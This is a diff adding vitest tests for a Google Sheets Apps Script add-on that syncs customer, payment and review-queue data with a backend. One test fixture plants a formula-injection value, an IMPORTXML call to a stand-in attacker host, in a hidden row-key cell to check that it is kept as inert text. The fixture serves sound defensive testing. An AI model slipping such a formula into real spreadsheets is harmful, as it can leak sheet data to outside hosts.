@@ -1,7 +1,7 @@
 // The built add-on against an in-process stand-in backend: status write-back blocks and the formula
 // guard, oversize chunks split on 413, and the recorded service calls of a sync.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Result, SyncProgress } from '../../apps-script/src/contract.js';
+import type { Result, Saved, SyncProgress } from '../../apps-script/src/contract.js';
 import { type BuiltBundle, buildBundle, type LoadedAddon, loadAddon } from './addon-harness.js';
 import { createStandIn, type StandInOptions } from './stand-in-backend.js';
 
@@ -77,9 +77,24 @@ describe('refresh status', () => {
     ];
     a.gas.addSheet('Customers', rows);
     a.call('menuRefreshStatus');
-    expect(standIn.statusRequests.map((r) => r.length)).toEqual([500, 500, 201]);
+    expect(standIn.statusRequests.flat()).toEqual(rows.slice(1).map((r) => r[0]));
+    expect(Math.max(...standIn.statusRequests.map((r) => r.length))).toBeLessThanOrEqual(500);
     expect(a.gas.count('UrlFetchApp.fetchAll')).toBe(1);
     expect(a.gas.count('Range.setValues')).toBe(1);
+  });
+
+  it("returns every status URL within Apps Script's 2 KB URL limit, 500 short ids at most per request", () => {
+    // Prepare: 1,201 ids of 12 characters would make 500-id URLs of about 6.5 KB.
+    const { a, standIn } = withStandIn();
+    const ids = Array.from({ length: 1_201 }, (_, i) => `CUST-${String(i).padStart(7, '0')}`);
+    a.gas.addSheet('Customers', [CUSTOMERS[0]!, ...ids.map((id) => [id, 'N', '', '', '', '', '', ''])]);
+    // Act
+    a.call('menuRefreshStatus');
+    // Assess
+    const urls = a.gas.requests.filter((r) => r.url.includes('/v1/status')).map((r) => r.url);
+    expect(Math.max(...urls.map((u) => u.length))).toBeLessThanOrEqual(2048);
+    expect(standIn.statusRequests.flat()).toEqual(ids);
+    expect(a.gas.count('UrlFetchApp.fetchAll')).toBe(1);
   });
 });
 
@@ -166,6 +181,45 @@ describe('sync', () => {
     expect(standIn.syncBodies.flatMap((b) => b.rowNumbers)).toEqual([3, 4]);
   });
 
+  it('returns a row key typed as a formula kept as text in the sync state sheet, and not resent', () => {
+    // Prepare: the hidden row key column is a cell like any other; an editor may type into it.
+    const { a, standIn } = withStandIn();
+    a.gas.addSheet('Customers', [
+      ['Customer ID', 'Name', 'Errors', 'Duebook Row Key'],
+      ['C-1', 'Ada', '', '=IMPORTXML("http://evil.example","//a")'],
+      ['C-2', 'Bo', '', '-k2'],
+    ]);
+    // Act
+    a.call('startSync');
+    standIn.syncBodies.length = 0;
+    a.call('startSync');
+    // Assess
+    const state = a.gas.sheet('Duebook Sync State')!;
+    expect(state.formulaInjections).toEqual([]);
+    expect(state.rows.map((r) => r[1])).toContain('=IMPORTXML("http://evil.example","//a")');
+    expect(standIn.syncBodies).toEqual([]);
+  });
+
+  it('returns the document lock released when the sync state sheet cannot be read', () => {
+    // Prepare: the lock is taken, then reading the hidden sync state sheet fails.
+    const { a } = withStandIn();
+    a.gas.addSheet('Customers', [
+      ['Customer ID', 'Name'],
+      ['C-1', 'Ada'],
+    ]);
+    const sheet = a.gas.sheet.bind(a.gas);
+    a.gas.sheet = (name: string) => {
+      if (name === 'Duebook Sync State')
+        throw new Error('Service Spreadsheets timed out while accessing document');
+      return sheet(name);
+    };
+    // Act
+    const result = a.call<Result<SyncProgress>>('startSync');
+    // Assess
+    expect(result).toMatchObject({ ok: false, error: { message: expect.stringMatching(/timed out/) } });
+    expect(a.gas.lockHeld).toBe(false);
+  });
+
   it('returns date cells sent as ISO dates in the spreadsheet zone and amounts as numbers', () => {
     const { a, standIn } = withStandIn();
     // What getValues() gives for a date cell: midnight in the spreadsheet's zone (New York).
@@ -196,5 +250,88 @@ describe('sync', () => {
       1234.5,
       'USD',
     ]);
+  });
+});
+
+describe('sidebar actions', () => {
+  it('returns an error saying the row is already in the sheet when the backend refuses a payment', () => {
+    // Prepare: a customer added to the sheet but not synced yet, as the backend answers then.
+    const { a } = withStandIn({
+      post: (path) =>
+        path === '/v1/payments'
+          ? {
+              status: 400,
+              body: {
+                error: { code: 'SCHEMA.CUSTOMER_UNKNOWN', message: 'no customer "C-1" has been synced' },
+              },
+            }
+          : undefined,
+    });
+    a.gas.addSheet('Customers', [
+      ['Customer ID', 'Name'],
+      ['C-1', 'Ada'],
+    ]);
+    a.gas.addSheet('Payments', [['Payment ID', 'Customer ID', 'Date', 'Amount', 'Currency']]);
+    a.call('menuSetupLedger');
+    // Act
+    const result = a.call<Result<Saved>>('postPayment', {
+      customerId: 'C-1',
+      date: '2026-11-20',
+      amount: '25.00',
+      currency: 'USD',
+    });
+    // Assess: the clerk learns the payment is recorded, so it is not entered a second time.
+    expect(a.gas.sheet('Payments')!.lastRow()).toBe(2);
+    expect(result).toMatchObject({ ok: false, error: { kind: 'invalid' } });
+    const error = (result as { error: { message: string; fields?: unknown } }).error;
+    expect(error.message).toMatch(/^Saved in the Payments tab \(row 2\); do not enter it again\./);
+    expect(error.message).toContain('no customer "C-1" has been synced');
+    expect(error.fields).toBeUndefined();
+  });
+});
+
+describe('review queue', () => {
+  it('returns a refused hand-over apart from the approvals, with its reasons', () => {
+    // Prepare: the backend places one hand-over and refuses the other (it became a task).
+    const { a } = withStandIn({
+      post: (path, body) => {
+        if (path !== '/v1/queue') return undefined;
+        const entries = body.entries as { customerId: string }[];
+        return {
+          status: 200,
+          body: {
+            results: entries.map((e) =>
+              e.customerId === 'C-2'
+                ? {
+                    ...e,
+                    status: 'refused',
+                    refusals: [{ rule: 'handover/dispute', reason: 'an invoice is disputed' }],
+                  }
+                : { ...e, status: 'placed', placedWith: 'Acme Recovery' },
+            ),
+          },
+        };
+      },
+    });
+    const entry = (customerId: string) => ({
+      customerId,
+      stage: 'handover',
+      channel: 'handover',
+      cycle: 'c',
+    });
+    // Act
+    const result = a.call<Result<unknown>>('decideQueue', {
+      decision: 'approve',
+      entries: [entry('C-1'), entry('C-2')],
+    });
+    // Assess
+    expect(result).toEqual({
+      ok: true,
+      value: {
+        changed: 1,
+        unchanged: 0,
+        refused: [{ customerId: 'C-2', reasons: ['an invoice is disputed'] }],
+      },
+    });
   });
 });
